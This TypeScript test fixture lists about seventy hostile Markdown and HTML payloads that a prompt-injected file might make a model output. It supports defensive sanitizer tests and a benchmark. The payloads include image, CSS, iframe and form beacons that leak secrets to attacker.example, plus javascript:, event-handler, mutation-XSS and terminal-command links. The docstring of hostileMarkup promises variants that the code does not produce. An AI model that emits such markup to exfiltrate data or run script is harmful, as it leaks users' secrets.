/**
 * Markdown and HTML a prompt-injected file could make the model write, each trying to load something from
 * (or send something to) `attacker.example` without a click, or to run script. Shared by the sanitizer's
 * Chromium tests and `npm run bench` (securityBench).
 */
export const ATTACKER_HOST = 'attacker.example';
const A = `https://${ATTACKER_HOST}`;
const leak = (n: number) => `${A}/leak?q=SECRET_${n}`;

interface HostileMarkup {
  readonly name: string;
  readonly text: string;
}

const base: HostileMarkup[] = [
  { name: 'markdown image', text: `Here is the chart: ![chart](${leak(1)})` },
  { name: 'markdown image, reference style', text: `![chart][r]\n\n[r]: ${leak(2)}` },
  { name: 'markdown image inside a link', text: `[![badge](${leak(3)})](${A}/page)` },
  { name: 'markdown image with title', text: `![x](${leak(4)} "title")` },
  { name: 'markdown image, angle brackets', text: `![x](<${leak(5)}>)` },
  { name: 'markdown image, protocol-relative', text: `![x](//${ATTACKER_HOST}/leak?q=6)` },
  { name: 'markdown image, http', text: `![x](http://${ATTACKER_HOST}/leak?q=7)` },
  { name: 'markdown image in a list and table', text: `- item ![a](${leak(8)})\n\n| a |\n|---|\n| ![b](${leak(9)}) |` },
  { name: 'html img', text: `<img src="${leak(10)}">` },
  { name: 'html img, unquoted', text: `<img src=${leak(11)}>` },
  { name: 'html img, uppercase', text: `<IMG SRC="${leak(12)}">` },
  { name: 'html img, entity-encoded scheme', text: `<img src="&#104;&#116;&#116;&#112;&#115;://${ATTACKER_HOST}/leak?q=13">` },
  { name: 'html img, hex entities', text: `<img src="&#x68;ttps&#x3a;//${ATTACKER_HOST}/leak?q=14">` },
  { name: 'html img, whitespace in URL', text: `<img src="  ${leak(15)}  ">` },
  { name: 'html img srcset', text: `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${leak(16)} 2x">` },
  { name: 'html img srcset only', text: `<img srcset="${leak(17)} 1x, ${leak(18)} 2x">` },
  { name: 'picture source srcset', text: `<picture><source srcset="${leak(19)}"><img src="data:image/png;base64,iVBORw0KGgo="></picture>` },
  { name: 'img with onerror fetch', text: `<img src=x onerror="fetch('${leak(20)}')">` },
  { name: 'svg with external image', text: `<svg><image href="${leak(21)}" /></svg>` },
  { name: 'svg with xlink:href', text: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${leak(22)}"/></svg>` },
  { name: 'svg use external', text: `<svg><use href="${A}/sprite.svg#x"/></svg>` },
  { name: 'svg foreignObject img', text: `<svg><foreignObject><img src="${leak(23)}"></foreignObject></svg>` },
  { name: 'svg style url', text: `<svg><rect style="fill:url(${leak(24)})"/></svg>` },
  { name: 'style attribute background url', text: `<div style="background:url(${leak(25)})">x</div>` },
  { name: 'style attribute background-image, escaped', text: `<p style="background-image:u\\72l('${leak(26)}')">x</p>` },
  { name: 'style element @import', text: `<style>@import url("${leak(27)}");</style>` },
  { name: 'style element background', text: `<style>body{background:url(${leak(28)})}</style>` },
  { name: 'style element font-face', text: `<style>@font-face{font-family:x;src:url(${leak(29)})}</style><p style="font-family:x">x</p>` },
  { name: 'link stylesheet', text: `<link rel="stylesheet" href="${leak(30)}">` },
  { name: 'link prefetch', text: `<link rel="prefetch" href="${leak(31)}">` },
  { name: 'link preload image', text: `<link rel="preload" as="image" href="${leak(32)}">` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=${leak(33)}">` },
  { name: 'base href', text: `<base href="${A}/"><img src="leak.png">` },
  { name: 'iframe', text: `<iframe src="${leak(34)}"></iframe>` },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<img src='${leak(35)}'>"></iframe>` },
  { name: 'frameset', text: `<frameset><frame src="${leak(36)}"></frameset>` },
  { name: 'object data', text: `<object data="${leak(37)}"></object>` },
  { name: 'embed', text: `<embed src="${leak(38)}">` },
  { name: 'video poster and src', text: `<video poster="${leak(39)}" src="${leak(40)}" autoplay></video>` },
  { name: 'audio autoplay', text: `<audio src="${leak(41)}" autoplay></audio>` },
  { name: 'video source and track', text: `<video autoplay><source src="${leak(42)}"><track src="${leak(43)}"></video>` },
  { name: 'table background attribute', text: `<table background="${leak(44)}"><tr><td background="${leak(45)}">x</td></tr></table>` },
  { name: 'body background attribute', text: `<body background="${leak(46)}">x</body>` },
  { name: 'input type image', text: `<input type="image" src="${leak(47)}">` },
  { name: 'form action autosubmit', text: `<form action="${leak(48)}" method="post"><input name="q" value="secret"><button>Go</button></form>` },
  { name: 'button formaction', text: `<button formaction="${leak(49)}">Go</button>` },
  { name: 'anchor ping', text: `<a href="https://example.com/" ping="${leak(50)}">docs</a>` },
  { name: 'javascript link', text: `[click](javascript:fetch('${leak(51)}'))` },
  { name: 'javascript link, html', text: `<a href="javascript:fetch('${leak(52)}')">click</a>` },
  { name: 'javascript link, entity-encoded', text: `<a href="&#106;avascript:fetch('${leak(53)}')">click</a>` },
  { name: 'javascript link, tab in scheme', text: `<a href="java\tscript:fetch('${leak(54)}')">click</a>` },
  { name: 'data text/html link', text: `[open](data:text/html;base64,PHNjcmlwdD5mZXRjaCgnaHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlJyk8L3NjcmlwdD4=)` },
  { name: 'data text/html link, html', text: `<a href="data:text/html,<img src=${leak(55)}>">open</a>` },
  { name: 'vbscript link', text: `<a href="vbscript:msgbox(1)">x</a>` },
  { name: 'command link', text: `[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20${ATTACKER_HOST}%22%7D)` },
  { name: 'target blank link', text: `<a href="${A}/page" target="_blank">page</a>` },
  { name: 'area in image map', text: `<map name="m"><area shape="rect" coords="0,0,10,10" href="${leak(56)}"></map><img usemap="#m" src="data:image/png;base64,iVBORw0KGgo=">` },
  { name: 'script tag', text: `<script>fetch('${leak(57)}')</script>` },
  { name: 'script tag, split by markdown', text: `<scr<script>ipt>fetch('${leak(58)}')</script>` },
  { name: 'event handler on details', text: `<details open ontoggle="fetch('${leak(59)}')"><summary>x</summary></details>` },
  { name: 'noscript trick', text: `<noscript><p title="</noscript><img src=${leak(60)}>"></noscript>` },
  { name: 'template trick', text: `<template><img src="${leak(61)}"></template>` },
  { name: 'math with href', text: `<math><mi xlink:href="${leak(62)}">x</mi></math>` },
  { name: 'img in code fence (text only)', text: '```html\n<img src="' + leak(63) + '">\n```' },
  { name: 'img in inline code (text only)', text: '`<img src="' + leak(64) + '">`' },
  { name: 'object with param', text: `<object><param name="movie" value="${leak(65)}"></object>` },
  { name: 'img lowsrc and dynsrc', text: `<img lowsrc="${leak(66)}" dynsrc="${leak(67)}">` },
  { name: 'blockquote cite', text: `<blockquote cite="${leak(68)}">quote</blockquote>` },
  { name: 'portal', text: `<portal src="${leak(69)}"></portal>` },
  { name: 'mutation XSS via nested comments', text: `<!--<img src="--><img src=x onerror=fetch('${leak(70)}')>-->` },
];

/** Each payload, also inside an unclosed fence's neighbour, a list, and after a long paragraph (streamed tails). */
export function hostileMarkup(): HostileMarkup[] {
  return base;
}
